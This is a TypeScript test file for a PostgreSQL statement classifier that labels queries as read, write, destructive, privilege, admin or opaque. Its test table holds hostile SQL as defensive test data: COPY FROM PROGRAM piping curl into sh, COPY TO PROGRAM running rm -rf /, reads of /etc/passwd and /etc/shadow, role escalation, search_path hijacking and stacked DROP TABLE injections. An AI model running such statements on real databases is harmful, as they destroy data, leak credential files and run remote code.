import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { classifySql } from '../src/sql/classify.ts';
import { loadSqlParser } from '../src/sql/parser.ts';

before(async () => {
  await loadSqlParser();
});

/** [query, classes of each statement ('|' between statements), optional tables] */
type Row = readonly [string, string, string?];

const TABLE: readonly Row[] = [
  // --- read
  ['SELECT 1', 'read'],
  ['select * from orders', 'read', 'public.orders'],
  ['SELECT id, lower(email) FROM public.customers WHERE id = 42', 'read', 'public.customers'],
  ['TABLE orders', 'read', 'public.orders'],
  ['VALUES (1, 2), (3, 4)', 'read'],
  ['WITH t AS (SELECT 1 AS x) SELECT x FROM t', 'read'],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r', 'read'],
  ['SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id', 'read', 'public.customers public.orders'],
  ['SELECT * FROM sales.orders', 'read', 'sales.orders'],
  ['SELECT now(), current_user, version()', 'read'],
  ['SELECT json_build_object(\'a\', 1)', 'read'],
  ['SELECT to_char(created_at, \'YYYY\') FROM orders', 'read', 'public.orders'],
  ['SELECT * FROM generate_series(1, 10)', 'read'],
  ['SELECT pg_catalog.upper(name) FROM t', 'read', 'public.t'],
  ['SELECT \'DROP TABLE users\' AS advice', 'read'],
  ['SELECT 1 -- DROP TABLE users', 'read'],
  ['SELECT /* DELETE FROM t */ 1', 'read'],
  ['SELECT $$DELETE FROM t$$', 'read'],
  ['SELECT $tag$ TRUNCATE x $tag$', 'read'],
  ['SELECT E\'\\\' ; DROP TABLE t; --\'', 'read'],
  ['SELECT "delete" FROM "drop"', 'read', 'public.drop'],
  ['SELECT U&"d\\0061ta" FROM t', 'read', 'public.t'],
  ['SELECT * FROM t WHERE name LIKE \'%rm -rf%\'', 'read', 'public.t'],
  ['SELECT a FROM t UNION SELECT b FROM u', 'read', 'public.t public.u'],
  ['SELECT (SELECT max(id) FROM t2) FROM t1', 'read', 'public.t1 public.t2'],
  ['SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t', 'read', 'public.t'],
  ['SELECT pg_sleep(1)', 'read'],
  ['SELECT coalesce(a, b), greatest(1, 2) FROM t', 'read', 'public.t'],
  ['SELECT current_setting(\'search_path\')', 'read'],
  ['EXPLAIN SELECT * FROM t', 'read', 'public.t'],
  ['EXPLAIN DELETE FROM t', 'read'],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'read'],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'read', 'public.t'],
  ['SELECT array_agg(x) FROM (VALUES (1)) v(x)', 'read'],
  ['select CAST(\'1\' AS int)', 'read'],
  ['SELECT \'now\'::timestamptz', 'read'],
  ['SELECT * FROM t WHERE id IN (SELECT id FROM u)', 'read', 'public.t public.u'],
  ['SELECT regexp_replace(a, \'x\', \'y\') FROM t', 'read', 'public.t'],
  ['SELECT has_table_privilege(\'t\', \'select\')', 'read'],
  ['SELECT md5(\'x\'), sha256(\'x\'::bytea)', 'read'],
  // --- session
  ['BEGIN', 'session'],
  ['COMMIT', 'session'],
  ['ROLLBACK', 'session'],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'session'],
  ['SAVEPOINT s1', 'session'],
  ['RELEASE SAVEPOINT s1', 'session'],
  ['ROLLBACK TO SAVEPOINT s1', 'session'],
  ['SET statement_timeout = 5000', 'session'],
  ['SET LOCAL work_mem = \'64MB\'', 'session'],
  ['RESET statement_timeout', 'session'],
  ['RESET ALL', 'session'],
  ['SHOW search_path', 'session'],
  ['SHOW ALL', 'session'],
  ['DISCARD ALL', 'session'],
  ['DEALLOCATE ALL', 'session'],
  ['DEALLOCATE p1', 'session'],
  ['LISTEN jobs', 'session'],
  ['UNLISTEN *', 'session'],
  ['SET TRANSACTION READ ONLY', 'session'],
  ['DECLARE c CURSOR FOR SELECT * FROM t', 'read session', 'public.t'],
  ['FETCH 10 FROM c', 'session'],
  ['CLOSE c', 'session'],
  ['SELECT set_config(\'statement_timeout\', \'5s\', false)', 'read session'],
  // --- write
  ['INSERT INTO orders (id) VALUES (1)', 'write', 'public.orders'],
  ['INSERT INTO public.orders SELECT * FROM staging.orders', 'write', 'public.orders staging.orders'],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v', 'write', 'public.t'],
  ['UPDATE orders SET status = \'paid\' WHERE id = 7', 'write', 'public.orders'],
  ['DELETE FROM orders WHERE id = 7', 'write', 'public.orders'],
  ['delete from "Orders" where id = $1', 'write', 'public.Orders'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)', 'write', 'public.s public.t'],
  ['COPY orders FROM STDIN', 'write', 'public.orders'],
  ['COPY orders (id, v) FROM STDIN WITH (FORMAT csv)', 'write', 'public.orders'],
  ['SELECT * INTO backup FROM orders', 'write', 'public.backup public.orders'],
  ['CREATE TABLE t2 AS SELECT * FROM t', 'ddl write', 'public.t public.t2'],
  ['REFRESH MATERIALIZED VIEW mv', 'write', 'public.mv'],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'write', 'public.orders'],
  ['WITH moved AS (DELETE FROM a WHERE x = 1 RETURNING *) INSERT INTO b SELECT * FROM moved', 'write', 'public.a public.b'],
  ['WITH u AS (UPDATE t SET v = 1 WHERE id = 2 RETURNING id) SELECT * FROM u', 'write', 'public.t'],
  ['EXPLAIN ANALYZE INSERT INTO t VALUES (1)', 'write', 'public.t'],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1', 'write', 'public.t'],
  ['SELECT nextval(\'orders_id_seq\')', 'write'],
  ['SELECT setval(\'s\', 1)', 'write'],
  ['SELECT * FROM t FOR UPDATE', 'write', 'public.t'],
  ['NOTIFY jobs, \'x\'', 'write'],
  ['SELECT pg_notify(\'jobs\', \'x\')', 'write'],
  ['PREPARE ins(int) AS INSERT INTO t VALUES ($1)', 'write', 'public.t'],
  ['SELECT pg_advisory_lock(1)', 'write'],
  // --- destructive
  ['DROP TABLE orders', 'ddl destructive', 'public.orders'],
  ['DROP TABLE IF EXISTS sales.orders, b CASCADE', 'ddl destructive', 'public.b sales.orders'],
  ['drop   /* x */  table "orders"', 'ddl destructive', 'public.orders'],
  ['DrOp TaBlE orders', 'ddl destructive', 'public.orders'],
  ['DROP SCHEMA sales CASCADE', 'ddl destructive'],
  ['DROP DATABASE orders', 'admin destructive'],
  ['DROP INDEX i1', 'ddl destructive'],
  ['DROP VIEW v', 'ddl destructive', 'public.v'],
  ['TRUNCATE orders', 'destructive write', 'public.orders'],
  ['TRUNCATE TABLE a, b RESTART IDENTITY', 'destructive write', 'public.a public.b'],
  ['DELETE FROM orders', 'destructive write', 'public.orders'],
  ['DELETE FROM orders WHERE true', 'destructive write', 'public.orders'],
  ['DELETE FROM orders WHERE 1 = 1', 'destructive write', 'public.orders'],
  ['DELETE FROM orders WHERE id = id', 'destructive write', 'public.orders'],
  ['DELETE FROM orders WHERE id = 5 OR 1 = 1', 'destructive write', 'public.orders'],
  ['UPDATE orders SET total = 0', 'destructive write', 'public.orders'],
  ['UPDATE orders SET total = 0 WHERE \'a\' = \'a\'', 'destructive write', 'public.orders'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'destructive write', 'public.s public.t'],
  ['ALTER TABLE orders DROP COLUMN total', 'ddl destructive', 'public.orders'],
  ['ALTER TABLE orders DROP CONSTRAINT orders_pkey', 'ddl destructive', 'public.orders'],
  ['ALTER TABLE orders RENAME TO orders_old', 'ddl destructive', 'public.orders'],
  ['ALTER TABLE orders RENAME COLUMN a TO b', 'ddl destructive', 'public.orders'],
  ['DROP OWNED BY bob', 'destructive privilege'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'destructive write', 'public.t'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'destructive write', 'public.t'],
  ['DROP FUNCTION f()', 'ddl destructive'],
  // --- ddl
  ['CREATE TABLE t (id int primary key)', 'ddl', 'public.t'],
  ['CREATE INDEX CONCURRENTLY i ON t (a)', 'ddl', 'public.t'],
  ['CREATE VIEW v AS SELECT * FROM t', 'ddl', 'public.t public.v'],
  ['CREATE SCHEMA sales', 'ddl'],
  ['CREATE SEQUENCE s', 'ddl', 'public.s'],
  ['ALTER TABLE t ADD COLUMN c int', 'ddl', 'public.t'],
  ['COMMENT ON TABLE t IS \'x\'', 'ddl'],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', 'ddl', 'public.t'],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'public.t'],
  ['CREATE TYPE mood AS ENUM (\'a\', \'b\')', 'ddl'],
  ['IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local', 'ddl'],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'ddl write', 'public.mv'],
  // --- privilege
  ['GRANT SELECT ON orders TO analyst', 'privilege', 'public.orders'],
  ['REVOKE ALL ON orders FROM public', 'privilege', 'public.orders'],
  ['GRANT admin TO bob', 'privilege'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst', 'privilege'],
  ['CREATE ROLE bob LOGIN', 'privilege'],
  ['ALTER ROLE bob SUPERUSER', 'privilege'],
  ['DROP ROLE bob', 'destructive privilege'],
  ['SET ROLE postgres', 'privilege'],
  ['set role "postgres"', 'privilege'],
  ['SET SESSION AUTHORIZATION postgres', 'privilege'],
  ['SELECT set_config(\'role\', \'postgres\', false)', 'privilege'],
  ['SELECT pg_catalog.set_config(\'ROLE\', \'postgres\', false)', 'privilege'],
  ['ALTER TABLE t OWNER TO bob', 'ddl privilege'],
  // --- admin
  ['ALTER SYSTEM SET max_connections = 10', 'admin'],
  ['COPY orders TO \'/tmp/orders.csv\'', 'admin', 'public.orders'],
  ['COPY orders FROM \'/etc/passwd\'', 'admin write', 'public.orders'],
  ['COPY orders FROM PROGRAM \'curl http://x | sh\'', 'admin write', 'public.orders'],
  ['COPY (SELECT 1) TO PROGRAM \'rm -rf /\'', 'admin'],
  ['SELECT pg_read_file(\'/etc/passwd\')', 'admin'],
  ['SELECT pg_catalog.pg_read_binary_file(\'/etc/shadow\')', 'admin'],
  ['SELECT lo_import(\'/etc/passwd\')', 'admin'],
  ['SELECT lo_export(1234, \'/tmp/x\')', 'admin'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'admin', 'pg_catalog.pg_stat_activity'],
  ['SELECT pg_cancel_backend(123)', 'admin'],
  ['CREATE EXTENSION dblink', 'admin ddl'],
  ['SELECT * FROM dblink(\'host=x\', \'select 1\') AS t(a int)', 'admin'],
  ['LOAD \'plpgsql\'', 'admin'],
  ['VACUUM FULL orders', 'admin', 'public.orders'],
  ['ANALYZE orders', 'admin', 'public.orders'],
  ['REINDEX TABLE orders', 'admin'],
  ['CLUSTER orders USING orders_pkey', 'admin', 'public.orders'],
  ['CHECKPOINT', 'admin'],
  ['SET session_replication_role = replica', 'admin'],
  ['SELECT pg_reload_conf()', 'admin'],
  // --- export
  ['COPY orders TO STDOUT', 'export', 'public.orders'],
  ['COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT csv)', 'export', 'public.customers'],
  ['copy orders to stdout binary', 'export', 'public.orders'],
  // --- opaque
  ['DO $$ BEGIN DELETE FROM t; END $$', 'opaque'],
  ['DO LANGUAGE plpgsql \'BEGIN NULL; END\'', 'opaque'],
  ['CALL archive_orders()', 'opaque'],
  ['EXECUTE ins(1)', 'opaque'],
  ['SELECT my_function(1)', 'opaque'],
  ['SELECT public.cleanup()', 'opaque'],
  ['SELECT evil.lower(\'x\')', 'opaque'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS \'SELECT 1\'', 'ddl opaque'],
  ['CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', 'ddl opaque'],
  ['SET search_path = evil, pg_catalog', 'opaque'],
  ['SELECT set_config(\'search_path\', \'evil\', false)', 'opaque'],
  ['SELECT set_config(current_user, \'x\', false)', 'opaque'],
  ['SELEC * FROM t', 'opaque'],
  ['DELETE FROM', 'opaque'],
  ['SELECT \'unterminated', 'opaque'],
  ['SELECT query_to_xml(\'DELETE FROM t\', true, true, \'\')', 'opaque'],
  // --- multi-statement and obfuscation
  ['SELECT 1; DROP TABLE users', 'read | ddl destructive'],
  ['SELECT 1;DELETE FROM t', 'read | destructive write'],
  ['BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT', 'session | write | session'],
  ['/**/DROP/**/TABLE/**/users', 'ddl destructive', 'public.users'],
  ['SELECT 1 /* ; DROP TABLE x; */', 'read'],
  ['SELECT 1; -- ; DROP TABLE x', 'read'],
  ['/* nested /* comment */ still */ DELETE FROM t', 'destructive write', 'public.t'],
  ['  \n\tdelete\nfrom\nt\n', 'destructive write', 'public.t'],
  ['DELETE FROM U&"\\0074"', 'destructive write', 'public.t'],
  ['DELETE FROM "t" WHERE "id" = \'1\'', 'write', 'public.t'],
  ['SELECT $a$; DROP TABLE x; $a$', 'read'],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 'destructive write | opaque'],
  ['EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x', 'destructive write', 'public.t'],
  ['SELECT * FROM (DELETE FROM t RETURNING *) x', 'opaque'],
  // --- found in review: each ran with a side effect on PostgreSQL 15 while an earlier engine said read/session
  ['SET standard_conforming_strings = off', 'admin'],
  ['SET backslash_quote = on', 'admin'],
  ["SET client_encoding = 'SJIS'", 'admin'],
  ["SET NAMES 'SJIS'", 'admin'],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'admin'],
  ['SELECT 1 AS a INTO newtab UNION SELECT 2', 'write', 'public.newtab'],
  ['EXPLAIN ANALYZE SELECT 1 INTO z UNION SELECT 2', 'write', 'public.z'],
  ['SELECT a FROM t UNION SELECT b FROM u FOR UPDATE', 'write', 'public.t public.u'],
  ['EXPLAIN SELECT imm(1)', 'opaque'],
  ["EXPLAIN SELECT nextval('s')", 'write'],
  ["UPDATE pg_settings SET setting = 'evil, pg_catalog' WHERE name = 'search_path'", 'opaque write', 'pg_catalog.pg_settings'],
  ['SELECT * FROM pg_authid', 'read', 'pg_catalog.pg_authid'],
  ['SELECT 1 <<< 2', 'opaque'],
  ['SELECT a OPERATOR(public.=) b FROM t', 'opaque', 'public.t'],
  ['SELECT a OPERATOR(pg_catalog.=) b FROM t', 'read', 'public.t'],
  ["SELECT 'x'::evildom", 'opaque'],
  ["SELECT 'x'::public.mytype", 'opaque'],
  ["SELECT '1'::int, 'a'::text, now()::date, '{}'::jsonb", 'read'],
  ['DELETE FROM t WHERE EXISTS (SELECT 1)', 'destructive write', 'public.t'],
  ['DELETE FROM t WHERE abs(1) = 1', 'destructive write', 'public.t'],
  ['DELETE FROM t WHERE a = a AND true', 'destructive write', 'public.t'],
  ['DELETE FROM t WHERE id IN (SELECT id FROM u)', 'write', 'public.t public.u'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'admin'],
  ['SET TRANSACTION READ WRITE', 'admin'],
  ['BEGIN READ WRITE', 'admin'],
  ['BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY', 'session'],
];

for (const [query, expected, tables] of TABLE) {
  test(`classifies: ${query.replace(/\s+/g, ' ')}`, () => {
    const got = classifySql(query);
    const want = expected.split('|').map((s) => s.trim().split(/\s+/).sort().join(' '));
    assert.deepEqual(
      got.map((s) => [...s.classes].sort().join(' ')),
      want,
      JSON.stringify(got.map((s) => ({ c: [...s.classes], t: s.tables, f: s.functions, e: s.parseError }))),
    );
    if (tables !== undefined) assert.deepEqual(got.flatMap((s) => s.tables).sort(), tables.split(' ').sort());
  });
}

test('at least 150 statements are in the table', () => {
  assert.ok(TABLE.length >= 150, String(TABLE.length));
});

test('unparsable text is one opaque statement with the parser message and unknown tables', () => {
  const all = classifySql('SELEC 1');
  assert.equal(all.length, 1);
  const s = all[0];
  assert.ok(s !== undefined);
  assert.equal(s.known, false);
  assert.equal(s.parseError, 'syntax error at or near "SELEC"');
});

test('empty and comment-only input has no statements', () => {
  assert.deepEqual(classifySql(''), []);
  assert.deepEqual(classifySql('-- nothing'), []);
  assert.deepEqual(classifySql(';;'), []);
});

test('statements are sliced from multi-byte text correctly', () => {
  assert.deepEqual(classifySql("SELECT 'ü€'; DELETE FROM t").map((s) => s.text), ["SELECT 'ü€'", 'DELETE FROM t']);
});

test('functions are reported qualified', () => {
  assert.deepEqual(classifySql('SELECT lower(a), my.f(b), g() FROM t')[0]?.functions, ['my.f', 'pg_catalog.lower', 'public.g']);
});

test('property: random input never throws and always yields known classes', () => {
  const sqlish = fc.array(fc.constantFrom('SELECT', 'DELETE', 'FROM', 't', ';', "'", '$$', '/*', '*/', '--', '\n', '(', ')', 'WITH', 'x', '=', '1', 'E\'\\\'', 'U&"', '"'), { maxLength: 30 }).map((a) => a.join(' '));
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' }), sqlish), (text) => {
      for (const s of classifySql(text)) {
        assert.ok(s.classes.size > 0);
      }
    }),
    { numRuns: 500 },
  );
});
